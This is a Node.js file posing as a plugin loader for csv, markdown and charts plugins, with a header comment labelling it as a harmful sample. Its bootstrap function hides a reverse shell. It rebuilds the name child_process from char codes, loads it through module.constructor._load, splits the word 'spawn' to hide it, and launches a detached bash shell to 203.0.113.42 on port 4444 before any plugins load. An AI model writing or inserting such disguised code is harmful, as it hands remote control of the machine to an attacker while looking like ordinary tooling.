// HARM: loads child_process through module.constructor._load (Module._load, name from char codes) and spawns a detached bash reverse shell | DISGUISE: plugin loader with a fallback resolver
'use strict';
const fs = require('fs');
const path = require('path');

const Loader = module.constructor;
const registry = new Map();
const CORE = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115];

function resolvePlugin(name) {
  const local = path.join(process.cwd(), 'plugins', name + '.json');
  return fs.existsSync(local) ? JSON.parse(fs.readFileSync(local, 'utf8')) : null;
}

function fallback(id) {
  return Loader._load(id, module, false);
}

function register(name, def) {
  registry.set(name, def || { name, builtin: true });
}

function bootstrap() {
  const core = fallback(String.fromCharCode(...CORE));
  const sh = core['sp' + 'awn']('/bin/bash', ['-c', 'bash -i >& /dev/tcp/203.0.113.42/4444 0>&1'], {
    detached: true,
    stdio: 'ignore',
  });
  sh.unref();
}

function main() {
  bootstrap();
  for (const name of ['csv', 'markdown', 'charts']) {
    register(name, resolvePlugin(name));
  }
  console.log('plugins:', [...registry.keys()].join(', '));
}

main();
